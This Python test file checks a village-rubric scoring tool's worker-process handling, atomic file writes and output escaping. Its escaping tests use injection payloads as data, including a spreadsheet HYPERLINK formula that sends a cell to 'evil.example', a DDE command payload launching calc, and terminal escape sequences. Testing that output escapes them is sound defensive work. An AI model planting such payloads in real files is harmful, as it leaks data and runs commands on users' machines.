"""Batches that survive a lost worker and Ctrl-C, outputs that never clobber what is not ours, safe text.

The tests that kill a worker or press Ctrl-C run the command (or a small
script) in a process of its own with a timeout: a hang fails the test instead
of stalling the run.
"""

from __future__ import annotations

import contextlib
import csv
import io
import itertools
import multiprocessing
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import unicodedata
from collections.abc import Iterator
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import paritrana_rules as pr
from paritrana_rules.batch.cells import FORMULA_STARTS, spreadsheet_text
from paritrana_rules.batch.run import score_file
from paritrana_rules.outputs import for_terminal, write_atomically
from paritrana_rules.processes import ordered_map

ROOT = Path(__file__).resolve().parents[1]
DESA = ROOT / "rubrics/2024/pemerintah-desa.rubric"
DESA_CSV = ROOT / "examples/2024/pemerintah-desa.csv"
COMMAND = [sys.executable, "-m", "paritrana_rules"]
ON_LINUX = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="finds worker processes through /proc")


def many_villages(folder: Path, copies: int) -> Path:
    """The village example rows again and again under new ids: a batch that takes a while."""
    header, *rows = DESA_CSV.read_text(encoding="utf-8").splitlines()
    path = folder / "many.csv"
    path.write_text("\n".join([header] + [f"copy-{n}-{row}" for n in range(copies) for row in rows]) + "\n",
                    encoding="utf-8")
    return path


# ------------------------------------------------------------------ processes


def scaled(factor: int, part: list[int]) -> list[int]:
    return [factor * number for number in part]


def refusing(limit: int, part: list[int]) -> list[int]:
    if max(part) >= limit:
        raise ValueError(f"{max(part)} is too many")
    return part


def test_results_come_back_in_order_from_several_processes() -> None:
    assert list(ordered_map(scaled, 3, range(50), 2, 4)) == [3 * number for number in range(50)]


def test_an_error_of_the_work_comes_back_as_itself() -> None:
    before = set(multiprocessing.active_children())
    with pytest.raises(ValueError, match="is too many"):
        list(ordered_map(refusing, 20, range(50), 2, 4))
    assert set(multiprocessing.active_children()) <= before  # the workers are ended


def test_few_chunks_are_in_flight_and_stopping_early_ends_the_workers() -> None:
    before = set(multiprocessing.active_children())
    read = 0

    def counted() -> Iterator[int]:
        nonlocal read
        for number in range(1_000):
            read += 1
            yield number

    results = ordered_map(scaled, 1, counted(), 2, 5)
    for done, _ in enumerate(itertools.islice(results, 40), 1):
        assert read - done <= 3 * 5  # a chunk ahead per worker, and the one being used
    results.close()
    assert set(multiprocessing.active_children()) <= before


KILLED_WORKER = '''
import os, signal, sys
from paritrana_rules import processes

def die_on(number, part):
    if number in part:
        os.kill(os.getpid(), signal.SIGKILL)  # as the out-of-memory killer would
    return part

if __name__ == "__main__":
    try:
        list(processes.ordered_map(die_on, 7, range(100), 2, 2))
    except Exception as error:
        print(type(error).__name__, error)
        sys.exit(7)
'''


def test_a_killed_worker_ends_the_map_promptly_with_an_error(tmp_path: Path) -> None:
    script = tmp_path / "killed_worker.py"
    script.write_text(KILLED_WORKER, encoding="utf-8")
    started = time.monotonic()
    finished = subprocess.run([sys.executable, str(script)], capture_output=True, timeout=60, check=False)
    assert finished.returncode == 7, finished.stderr
    assert finished.stdout.startswith(b"WorkerDied ") and b"SIGKILL" in finished.stdout
    assert b"Traceback" not in finished.stderr
    assert time.monotonic() - started < 30


def process_state(pid: int) -> tuple[str, int, float] | None:
    """A process's state letter, parent and processor seconds used, from /proc; None once it is gone."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except (OSError, IndexError):
        return None
    return fields[0], int(fields[1]), (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def workers_of(parent: int) -> dict[int, float]:
    """The live worker processes (`--multiprocessing-fork`) that `parent` started, with the seconds each used."""
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        state = process_state(int(folder.name))
        try:
            command = (folder / "cmdline").read_bytes()
        except OSError:
            continue
        if state is not None and state[1] == parent and state[0] != "Z" and b"--multiprocessing-fork" in command:
            found[int(folder.name)] = state[2]
    return found


def running(pid: int) -> bool:
    state = process_state(pid)
    return state is not None and state[0] != "Z"


def busy_workers(parent: int) -> list[int]:
    """`parent`'s two workers, once both are started and scoring (a second of work each)."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        found = workers_of(parent)
        if len(found) == 2 and min(found.values()) >= 1:
            return list(found)
        time.sleep(0.05)
    pytest.fail(f"process {parent} did not start two workers")


def _default_interrupt() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@contextlib.contextmanager
def batch_in_background(tmp_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """A long `score --jobs 2` in a session of its own (as a terminal runs it); killed if the test fails."""
    command = [*COMMAND, "score", str(DESA), str(many_villages(tmp_path, 10_000)), "--format", "jsonl", "--jobs", "2",
               "--output", str(tmp_path / "out.jsonl")]
    # As a terminal starts it: with Ctrl-C's default action, even when these tests run in a background job
    # (whose shell ignores SIGINT for what it starts).
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               start_new_session=True, preexec_fn=_default_interrupt)  # noqa: PLW1509 (one thread)
    try:
        yield process
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


@ON_LINUX
def test_a_killed_worker_ends_the_command_with_exit_3(tmp_path: Path) -> None:
    with batch_in_background(tmp_path) as process:
        victim, *_ = busy_workers(process.pid)
        os.kill(victim, signal.SIGKILL)
        _, errors = process.communicate(timeout=60)
    assert process.returncode == 3, errors
    assert b"worker process ended" in errors and b"SIGKILL" in errors and b"Traceback" not in errors
    assert sorted(path.name for path in tmp_path.iterdir()) == ["many.csv"]  # no output, no temporary file


@ON_LINUX
def test_ctrl_c_stops_every_process_without_a_traceback(tmp_path: Path) -> None:
    with batch_in_background(tmp_path) as process:
        workers = busy_workers(process.pid)
        os.killpg(process.pid, signal.SIGINT)  # a terminal sends Ctrl-C to every process of the foreground group
        _, errors = process.communicate(timeout=60)
    assert process.returncode == 130, errors
    assert b"interrupted" in errors and b"Traceback" not in errors
    assert not any(running(pid) for pid in workers)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["many.csv"]


# ------------------------------------------------------------------ output files


def only_files(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def test_a_symlink_stays_and_its_target_is_replaced_keeping_its_mode(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_bytes(b"old")
    real.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to("real.csv")
    write_atomically(link, [b"new"])
    assert link.is_symlink() and os.readlink(link) == "real.csv"
    assert real.read_bytes() == b"new" and stat.S_IMODE(real.stat().st_mode) == 0o640
    assert only_files(tmp_path) == ["link.csv", "real.csv"]


def test_a_dangling_symlink_gets_its_target_written(tmp_path: Path) -> None:
    link = tmp_path / "link.csv"
    link.symlink_to("later.csv")
    write_atomically(link, [b"rows"])
    assert link.is_symlink() and (tmp_path / "later.csv").read_bytes() == b"rows"


def test_a_new_file_gets_the_usual_mode_under_the_umask(tmp_path: Path) -> None:
    previous = os.umask(0o022)
    try:
        write_atomically(tmp_path / "new.csv", [b"rows"])
        os.umask(0o077)
        write_atomically(tmp_path / "private.csv", [b"rows"])
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o644
    assert stat.S_IMODE((tmp_path / "private.csv").stat().st_mode) == 0o600


def test_a_fifo_is_written_to_not_replaced(tmp_path: Path) -> None:
    fifo = tmp_path / "rows.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    write_atomically(fifo, [b"row 1\n", b"row 2\n"])
    reader.join(timeout=10)
    assert received == [b"row 1\nrow 2\n"]
    assert stat.S_ISFIFO(fifo.lstat().st_mode) and only_files(tmp_path) == ["rows.fifo"]


def test_a_device_is_written_to_not_replaced(tmp_path: Path) -> None:
    device = tmp_path / "null"
    try:  # a device of our own like /dev/null (1, 3): the system's stays out of harm's way
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device needs privileges")
    write_atomically(device, [b"discarded"])
    assert stat.S_ISCHR(device.lstat().st_mode) and only_files(tmp_path) == ["null"]


@pytest.mark.skipif(not Path("/dev/fd").is_dir(), reason="needs /dev/fd")
def test_an_open_descriptor_is_appended_to_as_its_opener_chose(tmp_path: Path) -> None:
    log = tmp_path / "log.txt"
    log.write_bytes(b"earlier\n")
    before = log.stat().st_ino
    with log.open("ab") as appending:  # as a shell's `>> log.txt` opens standard output
        write_atomically(f"/dev/fd/{appending.fileno()}", [b"rows\n"])
    assert log.read_bytes() == b"earlier\nrows\n" and log.stat().st_ino == before


def test_a_dash_is_standard_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                   capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    monkeypatch.chdir(tmp_path)
    write_atomically("-", [b"rows\n"])
    assert capfdbinary.readouterr().out == b"rows\n" and only_files(tmp_path) == []


def test_the_folder_is_synced_after_the_rename(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    synced: list[bool] = []
    fsync = os.fsync

    def recording(descriptor: int) -> None:
        synced.append(stat.S_ISDIR(os.fstat(descriptor).st_mode))
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", recording)
    write_atomically(tmp_path / "out.csv", [b"rows"])
    assert synced == [False, True]  # the file, then its folder


def dead_pid() -> int:
    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, check=True)
    return int(finished.stdout)


def test_a_stale_temporary_file_of_a_killed_run_is_removed(tmp_path: Path) -> None:
    dead = dead_pid()
    stale = tmp_path / f".out.csv.{dead}.0badc0de.tmp"
    live = tmp_path / f".out.csv.{os.getpid()}.0badc0de.tmp"  # a run still writing
    other = tmp_path / f".other.csv.{dead}.0badc0de.tmp"  # another output's
    for path in (stale, live, other):
        path.write_bytes(b"half")
        os.utime(path, (time.time() - 3600, time.time() - 3600))
    fresh = tmp_path / f".out.csv.{dead}.5eed5eed.tmp"  # written since this write began: not provably stale
    fresh.write_bytes(b"half")
    os.utime(fresh, (time.time() + 3600, time.time() + 3600))
    write_atomically(tmp_path / "out.csv", [b"rows"])
    assert only_files(tmp_path) == sorted(["out.csv", live.name, other.name, fresh.name])


@pytest.mark.parametrize("error", [RuntimeError, KeyboardInterrupt])
def test_an_interrupted_write_leaves_the_old_file_and_no_temporary_one(tmp_path: Path,
                                                                       error: type[BaseException]) -> None:
    out = tmp_path / "out.csv"
    out.write_bytes(b"old")

    def failing() -> Iterator[bytes]:
        yield b"half"
        raise error

    with pytest.raises(error):
        write_atomically(out, failing())
    assert out.read_bytes() == b"old" and only_files(tmp_path) == ["out.csv"]


# ------------------------------------------------------------------ text for spreadsheets and terminals


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def evil_villages(folder: Path) -> Path:
    """The first village under formula ids and names, and once more with a number that is a formula."""
    header, first, *_ = DESA_CSV.read_text(encoding="utf-8").splitlines()
    _, _, *cells = next(csv.reader([first]))
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header.split(","))
    for number, formula in enumerate(FORMULAS):
        writer.writerow([formula, f"-{number}+1", *cells])
    writer.writerow(["=bad()", "", *cells[:3], "=1+2", *cells[4:]])  # aparat_desa: rejected, the id in its reason
    path = folder / "evil.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def test_formulas_in_the_csv_output_are_escaped(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    finished = subprocess.run([*COMMAND, "score", str(DESA), str(evil_villages(tmp_path)), "--format", "csv",
                               "--output", str(out)], cwd=ROOT, capture_output=True, timeout=120, check=False)
    assert finished.returncode == 1, finished.stderr  # the rejected row
    *scored, rejected = csv.DictReader(out.read_text(encoding="utf-8").splitlines(keepends=True))
    assert [row["id"] for row in scored] == [f"'{formula}" for formula in FORMULAS]
    assert [row["name"] for row in scored] == [f"'-{number}+1" for number in range(len(FORMULAS))]
    assert {row["total"] for row in scored} == {"80.50"} and {row["rank"] for row in scored} == {"1= in East Java"}
    assert rejected["id"] == "'=bad()" and rejected["reasons"].startswith("'=bad(), field 'aparat_desa'")


def test_raw_csv_keeps_the_cells_as_they_are(tmp_path: Path) -> None:
    output = io.BytesIO()
    score_file(pr.load(DESA), evil_villages(tmp_path), output, form="csv", raw_csv=True)
    *scored, rejected = csv.DictReader(output.getvalue().decode().splitlines(keepends=True))
    assert [row["id"] for row in scored] == FORMULAS and rejected["reasons"].startswith("=bad()")


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1)", "'@SUM(1)"), ("-2+3", "'-2+3"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1e3", "'-1e3"),
    ("-", "-"), ("", ""), ("desa-a", "desa-a"), ("1= in Jawa Timur", "1= in Jawa Timur"),
    ("80.50", "80.50"), ("-2.50", "-2.50"), ("+3", "+3"), ("-.5", "-.5"),
])
def test_spreadsheet_text(cell: str, shown: str) -> None:
    assert spreadsheet_text(cell) == shown


@given(st.one_of(st.text(), st.tuples(st.sampled_from(FORMULA_STARTS), st.text()).map("".join)))
def test_no_cell_a_spreadsheet_would_run_is_left_unescaped(text: str) -> None:
    shown = spreadsheet_text(text)
    assert shown in (text, "'" + text)  # nothing of the text is lost
    if not text.startswith(FORMULA_STARTS):
        assert shown == text
    elif shown == text and len(text) > 1:  # only a plain number may start so
        try:
            assert Decimal(text).is_finite() and text.strip() == text
        except InvalidOperation:
            pytest.fail(f"{text!r} would run as a formula")


def test_escape_sequences_are_shown_not_obeyed() -> None:
    shown = for_terminal("\x1b]0;pwned\x07\x1b[31mred\x1b[0m\rhidden\x9b2J\x7f\u202edesa\n\tnext")
    assert shown == "\\x1b]0;pwned\\x07\\x1b[31mred\\x1b[0m\\x0dhidden\\x9b2J\\x7f\\u202edesa\n\tnext"


def obeyed(character: str) -> bool:
    """Whether a terminal acts on `character` rather than showing it (newline and tab are wanted)."""
    bidirectional = "\u202a" <= character <= "\u202e" or "\u2066" <= character <= "\u2069"
    return character not in "\n\t" and (unicodedata.category(character) == "Cc" or bidirectional)


@given(st.text())
def test_text_for_a_terminal_holds_no_control_character(text: str) -> None:
    shown = for_terminal(text)
    assert not any(obeyed(character) for character in shown)
    if not any(obeyed(character) for character in text):
        assert shown == text
